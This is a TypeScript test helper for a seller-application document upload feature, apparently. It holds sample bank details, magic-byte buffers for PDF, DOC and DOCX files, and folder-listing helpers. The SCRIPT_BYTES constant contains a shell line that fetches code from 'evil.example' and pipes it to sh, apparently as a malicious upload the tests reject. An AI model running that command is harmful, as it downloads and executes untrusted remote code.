import { readdirSync } from 'node:fs';
import path from 'node:path';
import type { Kit } from '../../test/kit.ts';
import { sellerDocumentsDir } from './storage.ts';

// What only the seller application tests need on top of the kit (server/test/kit.ts, which holds the
// valid application and the call): bank details, document bytes, and the files an application left.

export const bankDetailsWith = (changes: Record<string, string>) =>
  JSON.stringify({
    bankName: 'State Bank of India',
    accountNumber: '30123456789',
    accountHolderName: 'Meera Iyer',
    ifscCode: 'SBIN0001234',
    ...changes,
  });

export const PDF_BYTES = Buffer.from('%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n', 'latin1');
export const DOC_BYTES = Buffer.concat([
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  Buffer.alloc(504),
]);
/** The start of a zip whose first entry is word/document.xml, as every .docx has. */
export const DOCX_BYTES = Buffer.concat([
  Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00]),
  Buffer.alloc(18),
  Buffer.from([0x11, 0x00, 0x00, 0x00]),
  Buffer.from('word/document.xml', 'latin1'),
  Buffer.alloc(64),
]);
export const SCRIPT_BYTES = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n', 'latin1');

/** The files stored for an application, by name (empty when the folder is missing). */
export function storedFiles(t: Kit, applicationId: string): string[] {
  try {
    return readdirSync(path.join(sellerDocumentsDir(t.config.dataDir), applicationId)).sort();
  } catch {
    return [];
  }
}

/** Every application folder on disk. */
export function applicationFolders(t: Kit): string[] {
  try {
    return readdirSync(sellerDocumentsDir(t.config.dataDir));
  } catch {
    return [];
  }
}
